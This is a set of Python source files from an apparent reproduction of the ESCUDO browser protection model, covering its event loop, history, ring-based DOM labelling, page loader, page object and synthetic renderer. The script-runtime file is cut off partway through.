            task_id=self._next_id,
            kind=kind,
            callback=callback,
            due=self.now + max(0.0, float(delay)),
            seq=self._seq,
            label=label or kind,
        )
        self._next_id += 1
        self._seq += 1
        order = task.seq if self.interleave_key is None else _mix(self.interleave_key, task.seq)
        heapq.heappush(self._heap, (task.due, order, task.seq, task))
        self._pending[task.task_id] = task
        if self.task_interceptor is not None:
            self.task_interceptor(self, task)
        return task

    def set_timeout(self, callback: Callable[[], None], delay: float = 0.0, *, label: str = "") -> int:
        """``setTimeout``: schedule ``callback`` and return its timer id."""
        return self.post(callback, delay=delay, kind="timer", label=label or "timer").task_id

    def clear_timeout(self, timer_id: int) -> bool:
        """``clearTimeout``: cancel a pending *timer* (False when unknown/run).

        Only ``timer`` tasks are cancellable through this script-facing
        entry point: task ids share one sequence with queued XHR completions
        and event dispatches, and a guessed id must not let a script cancel
        another principal's pending work -- that would silently skip the
        completion-time mediation (no decision, no audit record).  Host code
        cancelling its own task (XHR abort) uses :meth:`cancel` directly.
        """
        task = self._pending.get(timer_id)
        if task is None or task.kind != "timer":
            return False
        return self.cancel(timer_id)

    def cancel(self, task_id: int) -> bool:
        """Cancel any pending macrotask by id."""
        task = self._pending.pop(task_id, None)
        if task is None:
            return False
        task.cancelled = True
        self.stats.cancelled += 1
        return True

    def enqueue_microtask(self, callback: Callable[[], None]) -> None:
        """Queue a microtask (drained to empty after every macrotask)."""
        self._microtasks.append(callback)

    # -- inspection -----------------------------------------------------------------

    @property
    def pending_count(self) -> int:
        """Live (non-cancelled) macrotasks plus queued microtasks."""
        return len(self._pending) + len(self._microtasks)

    @property
    def quiescent(self) -> bool:
        """True when nothing is queued at any future time."""
        return self.pending_count == 0

    def next_due(self) -> float | None:
        """Due time of the next live macrotask (None when quiescent)."""
        while self._heap and self._heap[0][3].cancelled:
            heapq.heappop(self._heap)
        return self._heap[0][3].due if self._heap else None

    def pending_tasks(self) -> list[ScheduledTask]:
        """Live macrotasks in execution order (without running them)."""
        live = [entry for entry in self._heap if not entry[3].cancelled]
        return [task for _, _, _, task in sorted(live)]

    # -- execution ------------------------------------------------------------------

    def run_task(self, task: ScheduledTask | int) -> bool:
        """Run one specific pending task immediately, out of band.

        The synchronous XHR path uses this: ``send()`` still enqueues its
        completion (so sync and async share one code path and one mediation
        point), then executes that single task in place.  The virtual clock
        does not move.  Returns False when the task is unknown or cancelled.
        """
        task_id = task.task_id if isinstance(task, ScheduledTask) else int(task)
        found = self._pending.pop(task_id, None)
        if found is None:
            return False
        found.cancelled = True  # the lazy heap entry must not run again
        self._execute(found)
        return True

    def advance(self, ms: float) -> int:
        """Advance the virtual clock by ``ms``, running every task due on the way.

        Tasks scheduled *during* the advance also run if they fall due within
        the window (a zero-delay timer chains at the same instant).  Returns
        the number of macrotasks executed; the clock always lands on
        ``now + ms`` even if fewer tasks were due.
        """
        target = self.now + max(0.0, float(ms))
        executed = self._run_due(target)
        self.now = target
        return executed

    def drain(self) -> int:
        """Run every queued task to quiescence, advancing the clock as needed.

        Equivalent to advancing past the last due time repeatedly until the
        queue is empty.  Returns the number of macrotasks executed.
        """
        return self._run_due(None)

    def _run_due(self, limit: float | None) -> int:
        """The scheduler core: run live tasks due within ``limit`` (None = all)."""
        executed = 0
        self._drain_microtasks()
        while True:
            due = self.next_due()
            if due is None or (limit is not None and due > limit):
                break
            if executed >= self.task_budget:
                raise EventLoopBudgetExceeded(
                    f"event loop ran {executed} tasks without quiescing (budget {self.task_budget})"
                )
            entry = heapq.heappop(self._heap)[3]
            self._pending.pop(entry.task_id, None)
            self.now = max(self.now, entry.due)
            self._execute(entry)
            executed += 1
        return executed

    def settle(self) -> int:
        """Run everything already due *now* (the page-load horizon).

        Unlike :meth:`drain`, timers with a positive delay stay queued --
        deferred work deliberately survives the load so later steps can race
        policy changes against it.
        """
        return self.advance(0.0)

    # -- internals ------------------------------------------------------------------

    def _execute(self, task: ScheduledTask) -> None:
        self.stats.tasks_run += 1
        if task.kind == "timer":
            self.stats.timers_fired += 1
        if self.record_trace:
            self.trace.append(task.label)
        task.callback()
        self._drain_microtasks()

    def _drain_microtasks(self) -> None:
        guard = 0
        while self._microtasks:
            if guard >= self.task_budget:
                raise EventLoopBudgetExceeded(
                    f"microtask queue did not drain within {self.task_budget} steps"
                )
            callback = self._microtasks.popleft()
            self.stats.microtasks_run += 1
            callback()
            guard += 1
