"""Browser state: history and visited-link information.

The paper mandatorily assigns internal browser state to ring 0 -- scripts
cannot read or manipulate it unless the application put them in ring 0,
which closes the history-sniffing attacks cited in the paper.  The state
itself is ordinary bookkeeping; the *objects* exposed for mediation are
built with :func:`repro.core.objects.browser_state_object`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.context import SecurityContext
from repro.core.objects import ProtectedObject, browser_state_object
from repro.core.origin import Origin
from repro.http.url import Url


@dataclass
class HistoryEntry:
    """One visited URL."""

    url: Url
    title: str = ""
    sequence: int = 0


class BrowserHistory:
    """Navigation history plus the visited-link set."""

    def __init__(self) -> None:
        self._entries: list[HistoryEntry] = []
        self._visited: set[str] = set()
        self._position = -1
        self._sequence = 0

    # -- recording -----------------------------------------------------------------

    def record_visit(self, url: Url, title: str = "") -> HistoryEntry:
        """Append a visit (truncating any forward history)."""
        self._sequence += 1
        entry = HistoryEntry(url=url, title=title, sequence=self._sequence)
        del self._entries[self._position + 1 :]
        self._entries.append(entry)
        self._position = len(self._entries) - 1
        self._visited.add(str(url))
        return entry

    # -- navigation ------------------------------------------------------------------

    def back(self) -> HistoryEntry | None:
        """Move back one entry, returning it (or ``None`` at the oldest)."""
        if self._position <= 0:
            return None
        self._position -= 1
        return self._entries[self._position]

    def forward(self) -> HistoryEntry | None:
        """Move forward one entry, returning it (or ``None`` at the newest)."""
        if self._position >= len(self._entries) - 1:
            return None
        self._position += 1
        return self._entries[self._position]

    @property
    def current(self) -> HistoryEntry | None:
        """The entry currently displayed."""
        if 0 <= self._position < len(self._entries):
            return self._entries[self._position]
        return None

    # -- queries -----------------------------------------------------------------------

    def is_visited(self, url: Url | str) -> bool:
        """Whether a URL has been visited in this session."""
        return str(url) in self._visited

    @property
    def entries(self) -> list[HistoryEntry]:
        """Every recorded entry, oldest first."""
        return list(self._entries)

    def __len__(self) -> int:
        return len(self._entries)

    # -- mediation objects ------------------------------------------------------------------

    def protected_objects(self, origin: Origin) -> dict[str, ProtectedObject]:
        """Ring-0 browser-state objects for mediation against ``origin``'s page."""
        base = SecurityContext.for_infrastructure(origin, "browser state")
        return {
            "history": browser_state_object(base, "history"),
            "visited-links": browser_state_object(base, "visited-links"),
        }
