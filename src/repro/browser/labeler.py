"""The labelling engine: "extracting and tracking security contexts".

After the tree builder produces an unlabelled DOM, the labeler walks it once
and assigns a :class:`~repro.core.context.SecurityContext` to every element.
This is the paper's "configuration extraction" step, and the single place
where the ring mapping happens (it is never repeated -- elements refuse a
second assignment).

Rules applied during the walk:

* Content outside any AC tag gets the *page default* context.  For
  ESCUDO-enabled pages that default is the fail-safe one (least-privileged
  ring, ``r=0 w=0 x=0``); for legacy pages it is ring 0 with a ring-0 ACL,
  which makes the ESCUDO policy collapse to the same-origin policy.
* An AC tag (``div`` with ESCUDO attributes) opens a new scope.  Its ring is
  the declared ring clamped by the enclosing scope (the scoping rule); a
  declared ACL is honoured, a missing ACL falls back to ``r=0 w=0 x=0``.
* Every element inside a scope (including the AC tag itself) is labelled
  with the scope's context.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.acl import Acl
from repro.core.config import PageConfiguration, extract_ac_label
from repro.core.context import SecurityContext
from repro.core.origin import Origin
from repro.core.rings import Ring, RingSet
from repro.core.scoping import effective_ring, is_violation
from repro.dom.document import Document
from repro.dom.element import Element


@dataclass
class LabelingStats:
    """What the labeler did to one page (read by tests and benchmarks)."""

    labelled_elements: int = 0
    ac_tags: int = 0
    scoping_clamps: int = 0
    ring_histogram: dict[int, int] = field(default_factory=dict)

    def note(self, ring_level: int) -> None:
        """Count one labelled element in ``ring_level``."""
        self.labelled_elements += 1
        self.ring_histogram[ring_level] = self.ring_histogram.get(ring_level, 0) + 1


class PageLabeler:
    """Walks a parsed document and assigns security contexts exactly once."""

    def __init__(
        self,
        origin: Origin,
        configuration: PageConfiguration,
        *,
        escudo_enabled: bool | None = None,
        enforce_scoping: bool = True,
    ) -> None:
        self.origin = origin
        self.configuration = configuration
        self.rings: RingSet = configuration.rings
        # The page counts as ESCUDO-enabled if the headers said so, or if the
        # caller detected AC tags in the body (the loader passes that in).
        self.escudo_enabled = (
            escudo_enabled if escudo_enabled is not None else configuration.escudo_enabled
        )
        # The scoping rule is always on in the real model; the ablation
        # benchmark switches it off to show which attacks it stops.
        self.enforce_scoping = enforce_scoping
        self.stats = LabelingStats()

    # -- defaults -------------------------------------------------------------------

    def page_default_context(self) -> SecurityContext:
        """Context for content outside every AC scope."""
        if self.escudo_enabled:
            return SecurityContext(
                origin=self.origin,
                ring=self.rings.least_privileged(),
                acl=Acl.default(),
                label="unlabelled content",
            )
        # Legacy page: one ring, everything mutually accessible within the
        # origin -- exactly the same-origin policy.
        return SecurityContext(
            origin=self.origin,
            ring=Ring(0),
            acl=Acl.uniform(0),
            label="legacy content",
        )

    # -- labelling ---------------------------------------------------------------------

    def label_document(self, document: Document) -> LabelingStats:
        """Assign a context to every element in ``document``.

        Two pieces of state travel down the tree:

        * the *scope context* given to elements that do not open a new AC
          scope (initially the page default -- least privileged for ESCUDO
          pages, ring 0 for legacy pages);
        * the *privilege bound* enforced by the scoping rule: the ring of
          the nearest enclosing AC tag.  Top-level AC tags are unbounded
          (bound = ring 0), because the scoping rule constrains *nested*
          scopes, not siblings of unlabelled content.
        """
        default = self.page_default_context()
        for child in document.children:
            if isinstance(child, Element):
                self._label(child, default, Ring(0))
        return self.stats

    def _label(self, element: Element, scope: SecurityContext, bound: Ring) -> None:
        context = scope
        child_bound = bound
        if self.escudo_enabled and element.is_ac_tag:
            context = self._scope_for_ac_tag(element, bound)
            child_bound = context.ring
            self.stats.ac_tags += 1
        # Every element in a scope shares the scope's (immutable) context
        # object: the ring mapping is per-scope, and sharing keeps the
        # labelling pass cheap (Figure 4 measures exactly this bookkeeping).
        if element.security_context is None:
            element.assign_security_context(context)
        self.stats.note(context.ring.level)
        for child in element.element_children():
            self._label(child, context, child_bound)

    def _scope_for_ac_tag(self, element: Element, bound: Ring) -> SecurityContext:
        label = extract_ac_label(element.attributes, self.rings)
        if is_violation(label.declared_ring, bound):
            self.stats.scoping_clamps += 1
        if self.enforce_scoping:
            ring = effective_ring(label.declared_ring, bound)
        else:
            ring = label.declared_ring if label.declared_ring is not None else bound
        acl = label.acl if label.acl is not None else Acl.default()
        return SecurityContext(
            origin=self.origin,
            ring=ring,
            acl=acl,
            label=f"ac-scope ring {ring.level}",
        )


def document_uses_escudo(document: Document) -> bool:
    """True when the parsed body contains at least one AC tag."""
    return any(element.is_ac_tag for element in document.elements())
