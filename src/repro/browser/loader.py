"""The page-loading pipeline: parse → extract configuration → label → render.

This module is deliberately network-free: it turns a response body plus its
headers into a fully labelled, rendered :class:`~repro.browser.page.Page`.
The full browser (:mod:`repro.browser.browser`) wraps it with fetching,
cookies, script execution and events; the Figure-4 overhead benchmark calls
it directly so that exactly the activities the paper times (parsing and
rendering, with and without ESCUDO bookkeeping) are measured.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.config import PageConfiguration
from repro.core.monitor import ReferenceMonitor
from repro.core.nonce import NonceValidator
from repro.core.policy import EscudoPolicy, Policy
from repro.core.sop import SameOriginPolicy
from repro.html.parser import TreeBuilder
from repro.html.tokenizer import tokenize
from repro.http.url import Url

from .compile_cache import CompileCaches
from .event_loop import EventLoop
from .labeler import PageLabeler, document_uses_escudo
from .page import Page
from .renderer import Renderer, RenderStats


@dataclass
class LoaderOptions:
    """Knobs for the loading pipeline.

    ``model`` selects the protection model ("escudo" or "sop").  With the
    SOP model, the ESCUDO-specific stages (AC-tag labelling, nonce checks)
    are skipped entirely, which is what the overhead benchmark's baseline
    ("Without Escudo" in Figure 4) requires.
    ``render`` can be switched off for parse-only measurements.
    """

    model: str = "escudo"
    render: bool = True
    viewport_width: float = 1024.0
    enforce_scoping: bool = True

    def build_policy(self) -> Policy:
        """Instantiate the policy object for this model."""
        if self.model == "sop" or self.model == "same-origin":
            return SameOriginPolicy()
        return EscudoPolicy()

    @property
    def escudo_bookkeeping(self) -> bool:
        """Whether the ESCUDO-specific pipeline stages run."""
        return self.model not in ("sop", "same-origin")


def load_page(
    body: str,
    url: Url | str,
    *,
    configuration: PageConfiguration | None = None,
    options: LoaderOptions | None = None,
    monitor: ReferenceMonitor | None = None,
    event_loop: EventLoop | None = None,
    caches: CompileCaches | None = None,
) -> Page:
    """Run the full pipeline over a response body.

    Parameters
    ----------
    body:
        The HTML text of the response.
    url:
        Where it was loaded from (decides the origin).
    configuration:
        The ESCUDO configuration extracted from the response headers.  When
        omitted, a legacy (no-ESCUDO-headers) configuration is assumed; AC
        tags in the body can still switch the page into ESCUDO mode.
    options:
        Pipeline options (protection model, rendering on/off).
    monitor:
        Reference monitor to attach to the page.  A fresh one (with the
        model chosen by ``options``) is created when omitted.
    event_loop:
        Task scheduler to attach to the page.  The browser passes a loop
        carrying its interleaving key; standalone callers get a fresh
        FIFO-ordered loop.  After the pipeline (and the caller's script
        pass) runs, the browser settles the loop's time-zero horizon so
        immediate tasks complete during load while deferred timers survive
        it.
    caches:
        Optional :class:`~repro.browser.compile_cache.CompileCaches` stack.
        When given, the parse → label → render pipeline is served from the
        template cache (the page receives an aliasing-free clone of the
        cached tree), and -- unless an explicit ``monitor`` is passed -- the
        page's reference monitor shares the stack's decision cache.  A warm
        load is observably identical to a cold one.
    """
    opts = options or LoaderOptions()
    page_url = url if isinstance(url, Url) else Url.parse(url)
    config = configuration if configuration is not None else PageConfiguration.legacy()

    if caches is not None:
        document, config, escudo_enabled, labeling_stats, render_stats, validator, ignored = (
            _compile_cached(body, page_url, config, opts, caches)
        )
    else:
        document, config, escudo_enabled, labeling_stats, render_stats, validator, ignored = (
            _compile_cold(body, page_url, config, opts)
        )

    if monitor is not None:
        page_monitor = monitor
    elif caches is not None:
        # The stack's shared policy instance keeps the decision-cache token
        # stable across pages, so one page's verdicts serve every later page
        # enforcing the same model.
        page_monitor = ReferenceMonitor(caches.policy_for(opts), cache=caches.decisions)
    else:
        page_monitor = ReferenceMonitor(opts.build_policy())
    return Page(
        url=page_url,
        document=document,
        configuration=config,
        monitor=page_monitor,
        escudo_enabled=escudo_enabled,
        labeling=labeling_stats,
        rendering=render_stats,
        nonce_validator=validator,
        ignored_end_tags=ignored,
        event_loop=event_loop if event_loop is not None else EventLoop(),
    )


def _upgraded_for_ac_tags(config: PageConfiguration) -> PageConfiguration:
    """Upgrade a legacy header configuration for a page using AC tags.

    The page opted in purely through AC tags (the paper's "static page"
    configuration path, with no optional headers).  The header-derived
    configuration is still the legacy single-ring one at this point, so
    upgrade it to the default ring universe or every declared ring would be
    clamped to 0 and the configuration silently voided.
    """
    return PageConfiguration(
        cookie_policies=dict(config.cookie_policies),
        api_policies=dict(config.api_policies),
        escudo_enabled=True,
    )


def _compile_cold(body: str, page_url: Url, config: PageConfiguration, opts: LoaderOptions):
    """The original uncached pipeline: parse, decide, label, render."""
    # 1. Parse.  Nonce validation happens during tree construction because
    #    a rejected </div> changes the resulting tree shape.
    validator = NonceValidator()
    builder = TreeBuilder(
        url=str(page_url),
        nonce_validator=validator if opts.escudo_bookkeeping else None,
    )
    document = builder.build(tokenize(body))

    # 2. Decide whether the page is ESCUDO-enabled (headers OR AC tags).
    escudo_enabled = bool(opts.escudo_bookkeeping) and (
        config.escudo_enabled or document_uses_escudo(document)
    )
    if escudo_enabled and not config.escudo_enabled:
        config = _upgraded_for_ac_tags(config)

    # 3. Label (extract + track security contexts).
    labeler = PageLabeler(
        page_url.origin,
        config,
        escudo_enabled=escudo_enabled,
        enforce_scoping=opts.enforce_scoping,
    )
    labeling_stats = labeler.label_document(document)

    # 4. Render.
    if opts.render:
        _, render_stats = Renderer(viewport_width=opts.viewport_width).render(document)
    else:
        render_stats = RenderStats()
    return (
        document,
        config,
        escudo_enabled,
        labeling_stats,
        render_stats,
        validator,
        builder.ignored_end_tags,
    )


def _compile_cached(
    body: str,
    page_url: Url,
    config: PageConfiguration,
    opts: LoaderOptions,
    caches: CompileCaches,
):
    """The warm pipeline: same four stages, each served from the stack."""
    template = caches.templates.entry(body, str(page_url))
    escudo_enabled = bool(opts.escudo_bookkeeping) and (
        config.escudo_enabled or template.uses_escudo
    )
    if escudo_enabled and not config.escudo_enabled:
        config = _upgraded_for_ac_tags(config)
    document, labeling_stats = caches.templates.labeled_tree(
        template,
        origin=page_url.origin,
        configuration=config,
        escudo_enabled=escudo_enabled,
        enforce_scoping=opts.enforce_scoping,
    )
    if opts.render:
        render_stats = caches.templates.render_stats(
            template, viewport_width=opts.viewport_width
        )
    else:
        render_stats = RenderStats()
    return (
        document,
        config,
        escudo_enabled,
        labeling_stats,
        render_stats,
        template.make_validator(replay=bool(opts.escudo_bookkeeping)),
        template.ignored_end_tags,
    )
