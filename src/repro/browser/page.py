"""The Page: one loaded web page, ESCUDO's unit of protection.

The paper treats each web page as a "system" with its own independent set of
rings.  :class:`Page` bundles everything belonging to that system: the
parsed and labelled DOM, the page's ESCUDO configuration, its reference
monitor (each page gets its own, so audit trails and statistics are
per-system), the native-API contexts, registered event listeners and the
results of scripts that have run.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.core.config import PageConfiguration
from repro.core.context import SecurityContext
from repro.core.monitor import ReferenceMonitor
from repro.core.nonce import NonceValidator
from repro.core.origin import Origin
from repro.core.principal import PrincipalKind
from repro.core.rings import RingSet
from repro.dom.document import Document
from repro.dom.element import Element
from repro.dom.events import EventDispatcher
from repro.http.url import Url
from repro.scripting.interpreter import ExecutionResult

from .event_loop import EventLoop
from .labeler import LabelingStats
from .renderer import RenderStats


@dataclass
class RegisteredListener:
    """A script-registered event listener plus the principal that registered it."""

    element: Element
    event_type: str
    callback: Callable
    principal: SecurityContext


@dataclass
class ScriptRun:
    """Outcome of executing one script principal on this page."""

    description: str
    principal: SecurityContext
    result: ExecutionResult

    @property
    def succeeded(self) -> bool:
        """True when the script ran to completion without an error."""
        return not self.result.failed


@dataclass
class Page:
    """One loaded, labelled, rendered web page."""

    url: Url
    document: Document
    configuration: PageConfiguration
    monitor: ReferenceMonitor
    escudo_enabled: bool
    labeling: LabelingStats = field(default_factory=LabelingStats)
    rendering: RenderStats = field(default_factory=RenderStats)
    nonce_validator: NonceValidator = field(default_factory=NonceValidator)
    ignored_end_tags: int = 0
    dispatcher: EventDispatcher = field(default_factory=EventDispatcher)
    listeners: list[RegisteredListener] = field(default_factory=list)
    script_runs: list[ScriptRun] = field(default_factory=list)
    #: Per-page task scheduler: timers, queued XHR completions, dispatches.
    event_loop: EventLoop = field(default_factory=EventLoop)

    # -- identity ----------------------------------------------------------------------

    @property
    def origin(self) -> Origin:
        """The page's origin."""
        return self.url.origin

    @property
    def rings(self) -> RingSet:
        """The ring universe this page uses."""
        return self.configuration.rings

    # -- principals -----------------------------------------------------------------------

    def principal_context_for(self, element: Element, *, kind: PrincipalKind | None = None) -> SecurityContext:
        """Security context under which ``element`` acts as a principal.

        The element's own labelled context is the principal context -- that
        is the essence of the model: a script (or ``img``/``form``/...) has
        exactly the privileges of the ring its enclosing scope gave it.
        """
        context = element.security_context
        if context is not None:
            descriptor = f"<{element.tag_name}>"
            if kind is not None:
                descriptor += f" {kind.value}"
            return context.with_label(descriptor)
        # Elements created outside the labelling pass without a context fall
        # back to the page's least-privileged default.
        from .labeler import PageLabeler

        labeler = PageLabeler(self.origin, self.configuration, escudo_enabled=self.escudo_enabled)
        return labeler.page_default_context().with_label(f"<{element.tag_name}> (unlabelled)")

    def browser_principal(self) -> SecurityContext:
        """Trusted principal for actions the browser performs for the user."""
        return SecurityContext.for_infrastructure(self.origin, "browser/user").with_ring(0)

    # -- native API objects --------------------------------------------------------------------

    def api_context(self, api_name: str) -> SecurityContext:
        """Security context of a native API object (``XMLHttpRequest`` ...).

        Defaults to ring 0 (fail-safe) unless the page's configuration says
        otherwise.
        """
        policy = self.configuration.api_policy(api_name)
        return SecurityContext(
            origin=self.origin,
            ring=policy.ring,
            acl=policy.acl,
            label=f"native-api:{api_name}",
        )

    def set_api_policy(self, api_name: str, policy) -> None:
        """Relabel a native API object mid-session (a server-pushed update).

        Pairs the configuration write with a cache-generation bump so no
        verdict predating the privilege change can survive it -- callers
        must not be able to forget the invalidation, or a revocation would
        fail open through the decision cache.  Deferred work already queued
        on the event loop is decided against the *new* policy when it runs
        (the completion-time TOCTOU rule).
        """
        self.configuration.api_policies[api_name] = policy
        self.monitor.invalidate_cache()

    def dom_api_context(self) -> SecurityContext | None:
        """Context for the DOM API object, only when explicitly configured."""
        if "DOM API" in self.configuration.api_policies:
            return self.api_context("DOM API")
        return None

    # -- listeners ---------------------------------------------------------------------------------

    def register_listener(self, listener: RegisteredListener) -> None:
        """Record a script-registered listener and hook it into the dispatcher."""
        self.listeners.append(listener)
        self.dispatcher.add_listener(listener.element, listener.event_type, listener.callback)

    def listeners_on(self, element: Element, event_type: str) -> list[RegisteredListener]:
        """Registered listeners for a specific element and event type."""
        return [
            listener
            for listener in self.listeners
            if listener.element is element and listener.event_type == event_type
        ]

    # -- summaries -----------------------------------------------------------------------------------

    def ring_histogram(self) -> dict[int, int]:
        """Elements per ring (from the labelling pass)."""
        return dict(self.labeling.ring_histogram)

    def denied_accesses(self) -> int:
        """Total accesses denied by this page's reference monitor so far."""
        return self.monitor.stats.denied

    def summary(self) -> dict[str, object]:
        """Compact description used by examples and benchmark reports."""
        return {
            "url": str(self.url),
            "escudo": self.escudo_enabled,
            "model": self.monitor.model_name,
            "elements": self.document.count_elements(),
            "ac_tags": self.labeling.ac_tags,
            "rings": self.ring_histogram(),
            "scripts_run": len(self.script_runs),
            "mediated_accesses": self.monitor.stats.total,
            "denied_accesses": self.monitor.stats.denied,
            "ignored_end_tags": self.ignored_end_tags,
            "tasks_run": self.event_loop.stats.tasks_run,
        }
