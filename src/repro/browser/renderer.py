"""Synthetic renderer.

The paper's Figure 4 measures "parsing and rendering time" in the Lobo
browser.  The reproduction has no pixels, but the overhead comparison only
needs a rendering stage whose cost scales with page size the way layout
does, so that the ESCUDO bookkeeping added to the pipeline can be expressed
as a percentage of realistic work.

The renderer builds a box tree from the DOM: block and inline boxes,
synthetic text measurement (per-character advance widths), and a simple
flow layout that assigns every box a position and size inside a viewport.
The amount of arithmetic per element is deliberately comparable to what a
simple layout engine does, and it is completely deterministic.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.dom.document import Document
from repro.dom.element import Element
from repro.dom.node import Node, NodeType, TextNode

#: Elements laid out as blocks; everything else is treated as inline.
BLOCK_ELEMENTS = frozenset(
    {"html", "body", "div", "p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "table",
     "tr", "td", "th", "form", "blockquote", "pre", "section", "article", "header",
     "footer", "nav", "fieldset"}
)

#: Elements that never produce boxes.
NON_RENDERED = frozenset({"head", "script", "style", "meta", "link", "title"})

#: Synthetic font metrics: per-character advance widths (a small proportional
#: font table) and line height.  Text measurement walks the glyphs the way a
#: simple layout engine does, so rendering cost scales with text volume.
CHAR_WIDTH = 7.2
LINE_HEIGHT = 16.0
DEFAULT_VIEWPORT_WIDTH = 1024.0

_ADVANCE_WIDTHS = {
    " ": 3.6, ".": 3.2, ",": 3.2, "i": 3.4, "l": 3.4, "j": 3.6, "f": 4.2, "t": 4.4,
    "r": 4.8, "s": 5.8, "a": 6.4, "c": 6.2, "e": 6.4, "o": 6.8, "n": 6.8, "u": 6.8,
    "m": 10.4, "w": 9.6, "W": 12.2, "M": 11.6, "0": 7.0, "1": 7.0, "2": 7.0,
}


def measure_text(text: str) -> float:
    """Synthetic text measurement: sum of per-character advance widths."""
    total = 0.0
    widths = _ADVANCE_WIDTHS
    for ch in text:
        total += widths.get(ch, CHAR_WIDTH)
    return total


@dataclass
class LayoutBox:
    """One box in the layout tree."""

    element_tag: str
    x: float = 0.0
    y: float = 0.0
    width: float = 0.0
    height: float = 0.0
    is_block: bool = True
    text_length: int = 0
    text_width: float = 0.0
    children: list["LayoutBox"] = field(default_factory=list)

    def box_count(self) -> int:
        """Total number of boxes in this subtree (including this one)."""
        return 1 + sum(child.box_count() for child in self.children)


@dataclass
class RenderStats:
    """Aggregate counters describing one rendering pass."""

    boxes: int = 0
    text_runs: int = 0
    characters: int = 0
    document_height: float = 0.0
    skipped_elements: int = 0


class Renderer:
    """Builds and lays out the box tree for a document."""

    def __init__(self, viewport_width: float = DEFAULT_VIEWPORT_WIDTH) -> None:
        self.viewport_width = viewport_width

    def render(self, document: Document) -> tuple[LayoutBox, RenderStats]:
        """Render ``document`` and return the root box plus statistics."""
        stats = RenderStats()
        root_element = document.document_element
        root_box = LayoutBox(element_tag="viewport", width=self.viewport_width, is_block=True)
        if root_element is not None:
            child_box = self._build_box(root_element, stats)
            if child_box is not None:
                root_box.children.append(child_box)
        height = self._layout(root_box, 0.0, 0.0, self.viewport_width)
        root_box.height = height
        stats.document_height = height
        stats.boxes = root_box.box_count()
        return root_box, stats

    # -- box construction -----------------------------------------------------------

    def _build_box(self, node: Node, stats: RenderStats) -> LayoutBox | None:
        if node.node_type is NodeType.TEXT:
            assert isinstance(node, TextNode)
            text = node.data.strip()
            if not text:
                return None
            stats.text_runs += 1
            stats.characters += len(text)
            return LayoutBox(
                element_tag="#text",
                is_block=False,
                text_length=len(text),
                text_width=measure_text(text),
            )
        if not isinstance(node, Element):
            return None
        if node.tag_name in NON_RENDERED:
            stats.skipped_elements += 1
            return None
        box = LayoutBox(element_tag=node.tag_name, is_block=node.tag_name in BLOCK_ELEMENTS)
        for child in node.children:
            child_box = self._build_box(child, stats)
            if child_box is not None:
                box.children.append(child_box)
        return box

    # -- layout ------------------------------------------------------------------------

    def _layout(self, box: LayoutBox, x: float, y: float, available_width: float) -> float:
        """Flow layout: returns the height consumed by ``box``."""
        box.x = x
        box.y = y
        box.width = available_width if box.is_block else min(available_width, box.text_width)
        if not box.children:
            if box.element_tag == "#text":
                # Wrap the text run into as many lines as the width requires.
                usable = max(available_width, CHAR_WIDTH)
                lines = max(1, -(-int(box.text_width) // int(usable)))
                box.height = lines * LINE_HEIGHT
            else:
                box.height = LINE_HEIGHT if not box.is_block else 0.0
            return box.height

        cursor_y = y
        cursor_x = x
        line_height = 0.0
        total_height = 0.0
        for child in box.children:
            if child.is_block:
                if line_height:
                    cursor_y += line_height
                    total_height += line_height
                    line_height = 0.0
                    cursor_x = x
                consumed = self._layout(child, x, cursor_y, available_width)
                cursor_y += consumed
                total_height += consumed
            else:
                child_width = max(child.text_width, CHAR_WIDTH)
                if cursor_x + child_width > x + available_width and cursor_x > x:
                    cursor_y += max(line_height, LINE_HEIGHT)
                    total_height += max(line_height, LINE_HEIGHT)
                    cursor_x = x
                    line_height = 0.0
                consumed = self._layout(child, cursor_x, cursor_y, available_width - (cursor_x - x))
                cursor_x += child_width
                line_height = max(line_height, consumed)
        if line_height:
            total_height += line_height
        box.height = total_height
        return total_height


def render_document(document: Document, viewport_width: float = DEFAULT_VIEWPORT_WIDTH) -> RenderStats:
    """Convenience wrapper returning only the statistics."""
    _, stats = Renderer(viewport_width).render(document)
    return stats
