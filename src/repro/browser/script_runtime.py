"""Script runtime: binds MiniScript programs to the mediated browser APIs.

Every script principal on a page -- a ``<script>`` element, an inline UI
event handler, a callback registered with ``addEventListener`` -- executes
in an environment built by :class:`ScriptRuntime`.  The environment exposes:

* ``document`` -- a :class:`DocumentBinding` over the mediated DOM API
  (:class:`~repro.dom.dom_api.DomApi`) bound to *that principal's* security
  context, plus ``document.cookie`` whose reads and writes are mediated
  against each cookie's ring/ACL;
* ``window`` -- ``alert``, ``location`` (navigation attempts are recorded,
  which the XSS experiments use to detect exfiltration), ``setTimeout`` /
  ``clearTimeout`` (real deferred semantics: callbacks are queued on the
  page's deterministic event loop and run when it is advanced or drained,
  under the principal that registered them);
* ``console.log``;
* ``XMLHttpRequest`` -- the mediated native API from
  :mod:`repro.browser.xhr`.

Because the bindings are built per principal, two scripts on the same page
in different rings see the *same* DOM but with different privileges -- the
heart of the ESCUDO model.
"""

from __future__ import annotations

from contextlib import nullcontext
from dataclasses import dataclass, field
from typing import Callable

from repro.core.context import SecurityContext
from repro.dom.dom_api import DomApi, ElementHandle
from repro.dom.element import Element
from repro.scripting.cache import ScriptAstCache, ScriptCodeCache
from repro.scripting.errors import RuntimeScriptError, ScriptError
from repro.scripting.interpreter import (
    ExecutionResult,
    HostObject,
    Interpreter,
    NativeConstructor,
    NativeFunction,
)
from repro.scripting.parser import parse_script
from repro.scripting.vm import VirtualMachine

from .page import Page, RegisteredListener, ScriptRun
from .xhr import XmlHttpRequest


class ElementBinding(HostObject):
    """Script-visible element wrapper (delegates to the mediated handle)."""

    host_name = "Element"

    def __init__(self, handle: ElementHandle, runtime: "_PrincipalEnvironment") -> None:
        self._handle = handle
        self._runtime = runtime

    # -- reads -----------------------------------------------------------------------

    def js_get(self, name: str):
        handle = self._handle
        if name == "innerHTML":
            value = handle.inner_html
            return value if value is not None else None
        if name == "textContent" or name == "innerText":
            return handle.text_content
        if name == "tagName":
            return handle.tag_name.upper()
        if name == "id":
            return handle.id
        if name == "getAttribute":
            return NativeFunction(lambda attr: handle.get_attribute(str(attr)), "getAttribute")
        if name == "setAttribute":
            return NativeFunction(
                lambda attr, value: handle.set_attribute(str(attr), str(value)), "setAttribute"
            )
        if name == "appendChild":
